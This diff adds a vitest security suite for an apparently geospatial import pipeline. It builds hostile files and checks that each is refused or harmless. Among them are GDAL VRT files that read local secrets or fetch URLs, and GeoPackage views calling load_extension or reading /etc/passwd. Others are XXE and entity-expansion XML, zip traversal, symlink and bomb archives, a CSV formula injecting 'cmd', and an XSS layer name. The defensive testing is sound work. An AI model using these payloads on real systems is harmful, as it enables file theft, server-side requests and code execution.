@@ -1,0 +1,299 @@
+import { readFileSync } from 'node:fs';
+import { DatabaseSync } from 'node:sqlite';
+import { gzipSync } from 'node:zlib';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { tellProblems } from '../errors.ts';
+import { makeZip } from '../tools/tools.fixtures/make-zip.ts';
+import { buildAttacks, tellOutcome, type Attack, type Outcome } from './hostile.fixtures/build-attacks.ts';
+import type { Canaries } from './hostile.fixtures/canaries.ts';
+import { copyFixture } from './hostile.fixtures/sources.ts';
+
+// Longer than 250 lines: a table of the attacks, each with the input that it makes.
+
+const vrt = (source: string): string =>
+  `<OGRVRTDataSource><OGRVRTLayer name="secret"><SrcDataSource>${source}</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>`;
+const unreadable = /^source\./;
+const point = { type: 'Feature', properties: { nom: 'a' }, geometry: { type: 'Point', coordinates: [4, 49] } };
+const geojson = (more: object = {}): string => JSON.stringify({ type: 'FeatureCollection', ...more, features: [point] });
+
+/** A sound GeoPackage after some words of SQL. */
+async function geopackage(path: string, ...sql: string[]): Promise<Buffer> {
+  await copyFixture('zonage.gpkg', path);
+  const database = new DatabaseSync(path, { defensive: false });
+  for (const each of sql) database.exec(each);
+  database.close();
+  return readFileSync(path);
+}
+
+/** A virtual table written straight into the schema: SQLite itself may not know its module. */
+const virtual = (name: string, module: string): string[] => [
+  'PRAGMA writable_schema = ON',
+  `INSERT INTO sqlite_master VALUES ('table', '${name}', '${name}', 0, 'CREATE VIRTUAL TABLE ${name} USING ${module.replaceAll("'", "''")}')`,
+  `INSERT INTO gpkg_contents (table_name, data_type, identifier) VALUES ('${name}', 'attributes', '${name}')`,
+];
+const view = (name: string, query: string): string[] => [
+  `CREATE VIEW ${name} AS ${query}`,
+  `INSERT INTO gpkg_contents (table_name, data_type, identifier) VALUES ('${name}', 'attributes', '${name}')`,
+];
+
+const kml = (inside: string, head = ''): string =>
+  `<?xml version="1.0"?>${head}<kml xmlns="http://www.opengis.net/kml/2.2"><Document>${inside}<Placemark><name>a</name><Point><coordinates>4,49</coordinates></Point></Placemark></Document></kml>`;
+const gml = (attributes: string, inside: string, head = ''): string =>
+  `<?xml version="1.0"?>${head}<c xmlns:gml="http://www.opengis.net/gml/3.2" ${attributes}><gml:featureMember><parc><nom>${inside}</nom><gml:geometryProperty><gml:Point srsName="EPSG:4326"><gml:pos>4 49</gml:pos></gml:Point></gml:geometryProperty></parc></gml:featureMember></c>`;
+const gpx = (head: string, name: string): string =>
+  `<?xml version="1.0"?>${head}<gpx version="1.1" creator="a" xmlns="http://www.topografix.com/GPX/1/1"><wpt lat="49" lon="4"><name>${name}</name></wpt></gpx>`;
+/** Entities that each name the one before ten times. */
+const laughs = (root: string): string =>
+  `<!DOCTYPE ${root} [<!ENTITY e0 "ha">${Array.from({ length: 9 }, (_, index) => `<!ENTITY e${index + 1} "${`&e${index};`.repeat(10)}">`).join('')}]>`;
+const external = (root: string, address: string): string => `<!DOCTYPE ${root} [<!ENTITY x SYSTEM "${address}">]>`;
+
+const mebibyte = 1024 ** 2;
+
+const attacks: Attack[] = [
+  // 2.2: files that lead GDAL elsewhere
+  ...['geojson', 'csv', 'json', 'gpkg'].map((extension): Attack => ({
+    name: `OGR VRT of a local file, called .${extension}`,
+    file: `source.${extension}`,
+    make: ({ secretFile }) => vrt(secretFile),
+    refusedBy: unreadable,
+  })),
+  { name: 'OGR VRT that fetches', file: 'source.gml', make: ({ address }) => vrt(`/vsicurl/${address}/a.csv`), refusedBy: unreadable },
+  {
+    name: 'OGR VRT that sends a local file as headers',
+    file: 'source.kml',
+    make: ({ address, secretFile }) => vrt(`/vsicurl?header_file=${secretFile}&amp;url=${address}/a.csv`),
+    refusedBy: unreadable,
+  },
+  {
+    name: 'raster VRT with raw bytes, called .tif',
+    file: 'source.tif',
+    make: ({ secretFile }) =>
+      `<VRTDataset rasterXSize="16" rasterYSize="1"><VRTRasterBand dataType="Byte" band="1" subClass="VRTRawRasterBand"><SourceFilename>${secretFile}</SourceFilename></VRTRasterBand></VRTDataset>`,
+    refusedBy: unreadable,
+  },
+  {
+    name: 'a web map service, called .tif',
+    file: 'source.tif',
+    make: ({ address }) => `<GDAL_WMS><Service name="TMS"><ServerUrl>${address}/\${z}/\${x}/\${y}.png</ServerUrl></Service></GDAL_WMS>`,
+    refusedBy: unreadable,
+  },
+  ...(['link', 'URL', 'name'] as const).map((type): Attack => ({
+    name: `GeoJSON with a coordinate system by ${type}`,
+    file: 'source.geojson',
+    make: ({ address }) =>
+      geojson({
+        crs: { type, properties: type === 'name' ? { name: address } : { href: `${address}/crs`, url: `${address}/crs`, type: 'ogcwkt' } },
+      }),
+    refusedBy: unreadable,
+  })),
+  {
+    name: 'GeoPackage with VirtualText over a local file',
+    file: 'source.gpkg',
+    make: ({ secretFile }, path) =>
+      geopackage(path, ...virtual('fuite', `VirtualText('${secretFile}', 'UTF-8', 1, POINT, DOUBLEQUOTE, ',')`)),
+    refusedBy: /^source\.geopackage-virtual$/,
+  },
+  {
+    name: 'GeoPackage with VirtualOGR over an address',
+    file: 'source.gpkg',
+    make: ({ address }, path) => geopackage(path, ...virtual('fuite', `VirtualOGR('/vsicurl/${address}/a.csv')`)),
+    refusedBy: /^source\.geopackage-virtual$/,
+  },
+  ...[
+    `SELECT load_extension('/tmp/x.so') AS a`,
+    `SELECT gdal_get_pixel_value('/etc/passwd', 1, 'pixel', 0, 0) AS a`,
+    `SELECT ogr_datasource_load_layers('/etc/passwd') AS a`,
+    'WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT i FROM n',
+  ].map((query): Attack => ({
+    name: `GeoPackage with a view: ${query.slice(0, 45)}`,
+    file: 'source.gpkg',
+    make: (_, path) => geopackage(path, ...view('vue', query)),
+    refusedBy: /^source\.geopackage-view$/,
+  })),
+  {
+    name: 'GeoPackage whose catalogue is an endless view',
+    file: 'source.gpkg',
+    make: (_, path) =>
+      geopackage(
+        path,
+        'ALTER TABLE gpkg_contents RENAME TO contenu',
+        'CREATE VIEW gpkg_contents AS WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT i AS table_name, i AS data_type FROM n',
+      ),
+    refusedBy: /^source\.geopackage-view$/,
+  },
+  {
+    name: 'GeoPackage with a trigger of its own',
+    file: 'source.gpkg',
+    make: (_, path) => geopackage(path, 'CREATE TRIGGER piege AFTER INSERT ON gpkg_contents BEGIN DELETE FROM gpkg_contents; END'),
+    refusedBy: /^source\.geopackage-trigger$/,
+  },
+  {
+    name: 'KML that includes a file by an entity',
+    file: 'source.kml',
+    make: ({ secretFile }) => kml('<name>&x;</name>', external('kml', `file://${secretFile}`)),
+    refusedBy: /^source\.xml-doctype$/,
+  },
+  {
+    name: 'GML that includes a file by an entity',
+    file: 'source.gml',
+    make: ({ secretFile }) => gml('', '&x;', external('c', `file://${secretFile}`)),
+    refusedBy: /^source\.xml-doctype$/,
+  },
+  {
+    name: 'GPX that includes an address by an entity',
+    file: 'source.gpx',
+    make: ({ address }) => gpx(external('gpx', `${address}/x`), '&x;'),
+    refusedBy: /^source\.xml-doctype$/,
+  },
+  {
+    name: 'KML with entities that multiply',
+    file: 'source.kml',
+    make: () => kml('<name>&e9;</name>', laughs('kml')),
+    refusedBy: /^source\.xml-doctype$/,
+  },
+  {
+    name: 'GML with entities that multiply',
+    file: 'source.gml',
+    make: () => gml('', '&e9;', laughs('c')),
+    refusedBy: /^source\.xml-doctype$/,
+  },
+  {
+    name: 'GPX with entities that multiply',
+    file: 'source.gpx',
+    make: () => gpx(laughs('gpx'), '&e9;'),
+    refusedBy: /^source\.xml-doctype$/,
+  },
+  {
+    name: 'KML that links to the network',
+    file: 'source.kml',
+    make: ({ address }) => kml(`<NetworkLink><Link><href>${address}/a.kml</href></Link></NetworkLink>`),
+    features: 1,
+  },
+  {
+    name: 'GML whose schema and coordinate system are addresses',
+    file: 'source.gml',
+    make: ({ address }) =>
+      gml(
+        `xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:xlink="http://www.w3.org/1999/xlink" xsi:schemaLocation="a ${address}/a.xsd" xlink:href="${address}/b"`,
+        'a',
+      ),
+    features: 1,
+  },
+  {
+    name: 'GeoJSON of 100,000 nested arrays',
+    file: 'source.geojson',
+    make: () => geojson({ a: 0 }).replace('"a":0', `"a":${'['.repeat(100_000)}${']'.repeat(100_000)}`),
+    refusedBy: unreadable,
+  },
+  {
+    name: 'GeoJSON of 20,000 nested collections',
+    file: 'source.geojson',
+    make: () => {
+      const nested = `${'{"type":"GeometryCollection","geometries":['.repeat(20_000)}${']}'.repeat(20_000)}`;
+      return `{"type":"FeatureCollection","features":[{"type":"Feature","properties":{},"geometry":${nested}}]}`;
+    },
+    refusedBy: unreadable,
+  },
+  // 2.3: archives
+  {
+    name: 'zip that leaves its folder',
+    file: 'source.zip',
+    make: ({ outside }) => makeZip([{ name: `../../../..${outside}/a.csv`, content: 'x' }]),
+    refusedBy: /^source\.archive-(name|broken)$/,
+  },
+  {
+    name: 'zip with an absolute name',
+    file: 'source.zip',
+    make: ({ outside }) => makeZip([{ name: `${outside}/a.csv`, content: 'x' }]),
+    refusedBy: /^source\.archive-(name|broken)$/,
+  },
+  {
+    name: 'zip with a link',
+    file: 'source.zip',
+    make: ({ secretFile }) => makeZip([{ name: 'a.csv', content: secretFile, mode: 0o120777 }]),
+    refusedBy: /^source\.archive-link$/,
+  },
+  {
+    name: 'zip with two names that differ in case',
+    file: 'source.zip',
+    make: () => makeZip([{ name: 'a.csv' }, { name: 'A.csv' }]),
+    refusedBy: /^source\.archive-duplicate$/,
+  },
+  {
+    name: 'zip whose entries overlap',
+    file: 'source.zip',
+    make: () =>
+      makeZip([
+        { name: 'a.csv', content: 'a;b\n1;2\n' },
+        { name: 'b.csv', content: 'a;b\n1;2\n', at: 0 },
+      ]),
+    refusedBy: /^source\.archive-overlap$/,
+  },
+  {
+    name: 'zip that grows a thousand times',
+    file: 'source.zip',
+    make: () => makeZip([{ name: 'a.csv', content: Buffer.alloc(70 * mebibyte, 'a') }]),
+    refusedBy: /^source\.archive-ratio$/,
+  },
+  {
+    name: 'gzip that grows a thousand times',
+    file: 'source.csv.gz',
+    make: () => gzipSync(Buffer.alloc(70 * mebibyte, 'a')),
+    refusedBy: /^source\.archive-ratio$/,
+  },
+  {
+    name: 'archive in an archive',
+    file: 'source.csv.gz',
+    make: () => gzipSync(makeZip([{ name: 'a.csv', content: 'x' }])),
+    refusedBy: /^source\.archive-nested$/,
+  },
+  // 2.4 and 5.2: text
+  { name: 'CSV with control characters', file: 'source.csv', make: () => 'nom,lon,lat\n\u0007a\u0000,4.03,49.25\n', refusedBy: unreadable },
+  {
+    name: 'CSV with formulas and text that runs from right to left',
+    file: 'source.csv',
+    make: () => `nom,note,lon,lat\n"=cmd|'/C calc'!A0","\u202Ea",4.03,49.25\n"@SUM(1)",-5,4.04,49.24\n`,
+    features: 2,
+  },
+  {
+    name: 'layer whose name is markup and a path',
+    file: 'source.gpkg',
+    make: (_, path) =>
+      geopackage(path, `UPDATE gpkg_contents SET identifier = '<img src=x onerror=alert(1)>' || table_name, description = '../../pwn'`),
+    features: 7,
+  },
+];
+
+let outcomes: Outcome[];
+let canaries: Canaries;
+let store: string;
+let sound: Outcome['line'] | undefined;
+beforeAll(async () => {
+  ({ outcomes, canaries, store, sound } = await buildAttacks(attacks));
+}, 180_000);
+afterAll(async () => {
+  process.stdout.write(`\n${outcomes.map(tellOutcome).join('\n')}\n${outcomes.length} hostile files\n`);
+  await canaries.remove();
+});
+
+describe('a hostile file', () => {
+  test.each(attacks.map(({ name }, index) => [name, index] as const))('does no harm: %s', (_, index) => {
+    const outcome = outcomes[index];
+    if (outcome === undefined) throw new Error('The attack was not tried.');
+    const { attack, line } = outcome;
+    const told = tellProblems(line.problems, 'en');
+    if (attack.refusedBy === undefined) expect([line.outcome, line.features, told]).toEqual(['published', attack.features, told]);
+    else {
+      expect([line.outcome, told]).toEqual(['refused', told]);
+      expect(line.problems.find(({ severity }) => severity === 'error')?.id).toMatch(attack.refusedBy);
+    }
+  });
+
+  test('calls nobody, reads nothing beside itself and writes nowhere else', async () => {
+    expect(await canaries.touched(store)).toEqual([]);
+  });
+
+  test('does not keep the data set beside it from being published', () => {
+    expect(sound?.outcome).toBe('published');
+  });
+});
